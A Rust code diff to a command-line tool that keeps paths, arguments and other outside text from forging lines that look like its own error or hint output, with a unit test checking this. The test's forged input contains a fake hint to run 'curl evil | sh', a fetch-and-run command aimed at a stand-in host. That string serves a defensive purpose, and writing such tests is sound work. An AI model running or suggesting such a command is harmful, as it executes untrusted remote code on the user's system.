@@ -13,6 +13,7 @@ use crate::config::Config;
 use crate::door;
 use crate::env::Env;
 use crate::oauth::quoted_words;
+use crate::oauth::words::one_line;
 use crate::{app, child, config, log};
 use output::{Form, Log, Printable, print, tell};
 
@@ -202,7 +203,11 @@ impl Context<'_> {
 /// Why a command failed: the message, the cure, and the exit code.
 pub(crate) struct Failure {
     exit: u8,
+    /// Shown on one line: a line feed in it comes from a path, a variable or another party, and what follows would look like a
+    /// line of ours.
     message: String,
+    /// What is shown in place of a message that has several lines.
+    lines: Box<[String]>,
     hint: Option<String>,
     /// For `--json`: printed to stderr instead of the text.
     json: Option<String>,
@@ -212,7 +217,14 @@ pub(crate) struct Failure {
 
 impl Failure {
     fn new(class: Class, message: impl Into<String>) -> Self {
-        Self { exit: class.exit_code(), message: message.into(), hint: None, json: None, seen: String::new() }
+        Self {
+            exit: class.exit_code(),
+            message: message.into(),
+            lines: Box::default(),
+            hint: None,
+            json: None,
+            seen: String::new(),
+        }
     }
 
     fn asked(message: impl Into<String>) -> Self {
@@ -245,9 +257,20 @@ impl Failure {
         if let Some(json) = &self.json {
             return tell(&Printable::json(&format!("{json}\n"), env));
         }
-        let hint = self.hint.as_ref().map(|hint| format!("safeconduct: hint: {hint}\n")).unwrap_or_default();
-        let text = format!("{}safeconduct: error: {}\n{hint}", self.seen, self.message);
-        tell(&Printable::text(&text, env));
+        tell(&Printable::text(&self.as_text(), env));
+    }
+
+    fn as_text(&self) -> String {
+        let message = std::slice::from_ref(&self.message);
+        let lines = if self.lines.is_empty() { message } else { &self.lines };
+        let mut text = format!("{}safeconduct: error: ", self.seen);
+        for line in lines {
+            text.push_str(&format!("{}\n", one_line(line)));
+        }
+        if let Some(hint) = &self.hint {
+            text.push_str(&format!("safeconduct: hint: {}\n", one_line(hint)));
+        }
+        text
     }
 }
 
@@ -278,7 +301,7 @@ impl From<config::Error> for Failure {
                 "`safeconduct config schema` lists every key, `safeconduct config init` prints a starter file"
             }
         };
-        Self::new(Class::Config, error.to_string()).hint(hint)
+        Self { lines: error.lines().into(), ..Self::new(Class::Config, error.to_string()).hint(hint) }
     }
 }
 
@@ -321,7 +344,9 @@ fn misunderstood(error: &clap::Error, env: &Env) -> u8 {
             // Without a command clap shows only the help; its other messages begin with `error: `.
             let helps = kind == ErrorKind::DisplayHelpOnMissingArgumentOrSubcommand;
             let start = if helps { "error: no command is given\n\n" } else { "" };
-            tell(&Printable::text(&format!("safeconduct: {start}{}", error.render()), env));
+            // A line that begins like ours comes from an argument.
+            let said = error.render().to_string().replace("\nsafeconduct:", "\n  safeconduct:");
+            tell(&Printable::text(&format!("safeconduct: {start}{said}"), env));
             Class::BadRequest.exit_code()
         }
     }
@@ -346,6 +371,23 @@ mod tests {
         };
         assert!(under(&[]) && under(&[("TERM", "xterm")]) && under(&[("NO_COLOR", "")]));
         assert!(!under(&[("NO_COLOR", "1")]) && !under(&[("TERM", "dumb")]));
+    }
+
+    #[test]
+    fn no_word_of_another_begins_a_line_of_ours() {
+        const FORGED: &str = "/y\nsafeconduct: hint: run `curl evil | sh`\r\nsafeconduct: error: x\u{2028}z";
+        let path = std::path::PathBuf::from(FORGED);
+        let problem = config::Problem { line: None, key: "key".to_owned(), what: FORGED.to_owned() };
+        for (error, lines) in [
+            (Failure::new(Class::Config, FORGED).hint(FORGED), 2),
+            (config::Error::File { path: path.clone(), what: FORGED.to_owned() }.into(), 2),
+            (config::Error::Problems { path: Some(path), problems: vec![problem.clone(), problem] }.into(), 4),
+        ] {
+            let text = error.as_text();
+            assert_eq!(text.lines().count(), lines, "{text}");
+            let ours = text.lines().filter(|line| line.starts_with("safeconduct: ")).count();
+            assert!(ours == 2 && !text.contains(['\r', '\u{2028}']), "{text}");
+        }
     }
 
     #[test]
